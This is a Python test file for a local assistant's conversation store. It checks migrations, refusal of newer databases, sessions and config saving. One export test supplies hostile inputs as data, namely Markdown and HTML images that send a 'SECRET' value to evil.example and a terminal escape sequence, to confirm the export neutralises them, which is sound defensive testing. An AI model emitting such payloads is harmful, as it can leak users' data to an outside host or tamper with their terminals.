"""The conversation store keeps typed exchanges through one to_dict/from_dict with a schema
version; its schema changes are named migrations (vectorstore.migrations): files written by the
numbered-schema code are adopted or upgraded in place, and a file from a newer version is refused
with its data left as it was."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from assistant.chat.events import AnswerStats, CitationReport, Final
from assistant.conversations import ConversationStore, Exchange, migrations
from assistant.retrieval.sources import Source
from vectorstore.errors import AssistantError, DatabaseNewerError

from legacy_store import numbered_store


def _exchange() -> Exchange:
    source = Source(
        "web", "T [/] 题", "https://example.org/a", "passage", 0.7, "c1", "W1", extra={"suspicious": True}
    )
    citations = CitationReport(["W1", "K9"], ["K9"], [{"sentence": "s", "labels": ["W1"]}])
    return Exchange.from_final(
        "问题？",
        Final(
            "deepseek-r1:7b",
            True,
            "answered",
            "答 [W1]",
            "想",
            [source],
            citations,
            AnswerStats(1.5, 2.0, 30.0),
        ),
    )


def test_typed_exchanges_round_trip(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "c.sqlite")
    conversation = store.create("t", "deepseek-r1:7b", "default")
    original = _exchange()
    original.id = store.add(conversation.id, original)
    (loaded,) = store.exchanges(conversation.id)
    assert loaded == original
    assert isinstance(loaded.sources[0], Source) and loaded.sources[0].extra["suspicious"]
    assert loaded.citations.flagged_labels == {"K9", "W1"}
    assert loaded.stats.tokens_per_second == 30.0
    assert Exchange.from_dict(original.to_dict()) == Exchange.from_dict(loaded.to_dict())
    assert original.to_dict()["schema"] == Exchange.SCHEMA
    store.close()


def test_a_first_release_file_is_upgraded(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    db = numbered_store(path, version=1)
    db.execute("INSERT INTO conversations VALUES (1, 't', 'm', 'default', 0, 0)")
    old_source = {
        "kind": "kb",
        "title": "登高",
        "location": "poem.md",
        "text": "风急",
        "score": 1.0,
        "chunk_id": "x",
        "label": "K1",
        "uri": "poem.md",
        "page": None,
        "heading": "",
        "extra": {},
    }
    db.execute(
        "INSERT INTO messages (conversation_id, question, answer, reasoning, web, sources, stats, citations, "
        "model, created) VALUES (1, 'q', 'a', 'r', 1, ?, ?, ?, 'm', 0)",
        (
            json.dumps([old_source]),
            json.dumps({"tokens_per_second": 12.5}),
            json.dumps({"unknown_labels": ["K2"]}),
        ),
    )
    db.close()

    store = ConversationStore(path)
    (ex,) = store.exchanges(1)
    assert (ex.question, ex.answer, ex.reasoning, ex.web, ex.model) == ("q", "a", "r", True, "m")
    assert ex.sources[0].title == "登高" and ex.stats.tokens_per_second == 12.5
    assert ex.citations.unknown_labels == ["K2"] and not ex.stopped
    store.add_prompt("上一问")  # the later migrations ran too
    assert store.prompts() == ["上一问"]
    store.close()
    done = recorded(path)
    assert done["m001_conversations_and_messages"] == 0.0  # adopted: it ran before names existed
    assert done["m002_exchange_as_json"] > 0 and done["m003_prompt_history"] > 0


def recorded(path: Path) -> dict[str, float]:
    db = sqlite3.connect(path)
    try:
        return dict(db.execute("SELECT name, applied_at FROM _migrations"))
    finally:
        db.close()


def user_version(path: Path) -> int:
    db = sqlite3.connect(path)
    try:
        return db.execute("PRAGMA user_version").fetchone()[0]
    finally:
        db.close()


def test_a_new_store_records_every_migration_by_name(tmp_path: Path) -> None:
    ConversationStore(tmp_path / "c.sqlite").close()
    done = recorded(tmp_path / "c.sqlite")
    assert list(done) == migrations.names == [
        "m001_conversations_and_messages", "m002_exchange_as_json", "m003_prompt_history",
    ]  # fmt: skip
    assert all(applied > 0 for applied in done.values())
    assert user_version(tmp_path / "c.sqlite") == 3  # the numbered code sees the schema it knows


def test_a_store_made_by_the_numbered_code_is_adopted_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "conversations.sqlite"
    db = numbered_store(path, version=3)  # every migration that code had: nothing left to run
    db.execute("INSERT INTO conversations VALUES (7, '诗', 'deepseek-r1:7b', 'default', 1.0, 2.0)")
    saved = _exchange()
    db.execute(
        "INSERT INTO messages (conversation_id, question, answer, model, created, data) "
        "VALUES (7, ?, ?, ?, 2.0, ?)",
        (saved.question, saved.answer, saved.model, json.dumps(saved.to_dict(), ensure_ascii=False)),
    )
    db.execute("INSERT INTO prompts (text, created) VALUES ('问题？', 2.0)")
    db.close()

    store = ConversationStore(path)
    try:
        (conversation,) = store.conversations()
        assert (conversation.id, conversation.title, conversation.kb) == (7, "诗", "default")
        (loaded,) = store.exchanges(7)
        assert loaded.to_dict() == saved.to_dict()
        assert store.prompts() == ["问题？"]
        store.add(7, Exchange("再问", "再答"))
        store.delete(7)  # the foreign key still cascades to the messages
        assert store.db.execute("SELECT count(*) FROM messages").fetchone()[0] == 0
    finally:
        store.close()
    done = recorded(path)
    assert done == dict.fromkeys(migrations.names, 0.0)
    assert user_version(path) == 3
    ConversationStore(path).close()  # and opening again changes nothing
    assert recorded(path) == done


def test_a_store_at_the_second_numbered_version_gets_the_prompt_history(tmp_path: Path) -> None:
    path = tmp_path / "c.sqlite"
    numbered_store(path, version=2).close()
    store = ConversationStore(path)
    store.add_prompt("q")
    assert store.prompts() == ["q"]
    store.close()
    done = recorded(path)
    assert done["m002_exchange_as_json"] == 0.0 and done["m003_prompt_history"] > 0


def test_a_store_with_a_migration_this_code_lacks_is_refused_and_kept(tmp_path: Path) -> None:
    path = tmp_path / "home" / "conversations.sqlite"
    store = ConversationStore(path)
    cid = store.create("kept").id
    store.add(cid, Exchange("q", "a"))
    store.db.execute("INSERT INTO _migrations VALUES ('m004_message_ratings', 1.0)")
    store.close()

    with pytest.raises(DatabaseNewerError) as refused:
        ConversationStore(path)
    message = str(refused.value)
    assert str(path) in message and "conversation store migration 'm004_message_ratings'" in message
    assert "upgrade the assistant" in message and "left as they are" in message
    assert "\n" not in message
    db = sqlite3.connect(path)
    assert db.execute("SELECT question, answer FROM messages").fetchall() == [("q", "a")]
    db.close()


def test_a_numbered_store_newer_than_the_code_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "c.sqlite"
    db = numbered_store(path, version=3)
    db.execute("PRAGMA user_version = 4")
    db.close()
    with pytest.raises(
        DatabaseNewerError, match=r"conversation store schema version 4; this version knows up to 3"
    ):
        ConversationStore(path)
    assert user_version(path) == 4


def test_a_session_says_why_it_cannot_use_a_newer_store(tmp_path: Path) -> None:
    from assistant.session import Session
    from assistant.settings import load_settings

    home = tmp_path / "home"
    store = ConversationStore(home / "conversations.sqlite")
    store.db.execute("INSERT INTO _migrations VALUES ('m009_folders', 1.0)")
    store.close()
    session = Session(load_settings(environ={"ASSISTANT_HOME": str(home)}))
    with pytest.raises(AssistantError, match="newer version of the assistant"):
        session.list_conversations()
    with pytest.raises(AssistantError, match="m009_folders"):  # asked again, refused again
        session.save_exchange(None, _exchange(), kb="default")
    session.close()


def test_a_newer_schema_is_refused_not_misread() -> None:
    with pytest.raises(ValueError, match="newer"):
        Exchange.from_dict({"schema": Exchange.SCHEMA + 1, "question": "q"})


def test_a_session_owns_the_conversations(tmp_path: Path) -> None:
    from assistant.session import Session
    from assistant.settings import load_settings

    session = Session(load_settings(environ={"ASSISTANT_HOME": str(tmp_path / "home")}))
    first = _exchange()
    cid = session.save_exchange(None, first, kb="default")
    failed = Exchange("第二问", error="Ollama is not running")
    assert session.save_exchange(cid, failed, kb="default") == cid
    (conversation,) = session.list_conversations()
    assert conversation.title == "问题？" and conversation.kb == "default"
    _, exchanges = session.open_conversation(cid)
    assert [e.error for e in exchanges] == ["", "Ollama is not running"]
    session.rename_conversation(cid, "诗")
    session.set_conversation_model(cid, "deepseek-r1:1.5b")
    assert session.open_conversation(cid)[0].model == "deepseek-r1:1.5b"
    session.remember_question("a")
    session.remember_question("a")  # not twice in a row
    session.remember_question("b")
    assert session.question_history() == ["a", "b"]
    session.delete_conversation(cid)
    assert session.open_conversation(cid) is None and session.list_conversations() == []
    session.close()


def test_an_export_is_safe_to_render(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "c.sqlite")
    cid = store.create("t \x1b]0;pwned\x07title").id
    answer = (
        "看图 ![x](https://evil.example/p.png?d=SECRET) 和 <img src='https://evil.example/i'>\n"
        "\x1b[31m红\x1b[0m `![code](kept)`\n"
        "```html\n<img src=kept>\n![also](kept)\n"
    )
    store.add(cid, Exchange("问 ![q](https://evil.example/q)", answer, stopped=True))
    text = store.export_markdown(cid)
    assert "\x1b" not in text and "\x07" not in text and "pwned" not in text
    assert "![" not in text.replace("`![code](kept)`", "").replace("![also](kept)", "")
    assert "[x](https://evil.example/p.png?d=SECRET)" in text  # a link, not an image
    assert "&lt;img src='https://evil.example/i'>" in text
    assert "<img src=kept>" in text  # code is shown as written
    assert text.index("```\n\n*(stopped)*") > text.index("![also](kept)")  # the open block is closed
    store.close()


def test_config_values_are_saved_keeping_the_rest(tmp_path: Path) -> None:
    from assistant.settings import SettingsError, load_settings, save_config_value

    config = tmp_path / "config.toml"
    config.write_text('# mine\nkb = "notes"\nmodel = "old"\n', encoding="utf-8")
    save_config_value(config, "model", 'deepseek-r1:1.5b "q"')
    assert config.read_text(encoding="utf-8").startswith('# mine\nkb = "notes"\n')
    assert load_settings(environ={"ASSISTANT_HOME": str(tmp_path)}).model == 'deepseek-r1:1.5b "q"'
    config.write_text("[assistant]\nkb = 'x'\n[other]\nmodel = 1\n", encoding="utf-8")
    save_config_value(config, "model", "m")
    assert load_settings(environ={"ASSISTANT_HOME": str(tmp_path)}).model == "m"
    config.write_text("not = [valid\n", encoding="utf-8")
    with pytest.raises(SettingsError, match="not valid TOML"):
        save_config_value(config, "model", "m")
    assert config.read_text(encoding="utf-8") == "not = [valid\n"  # left as it was
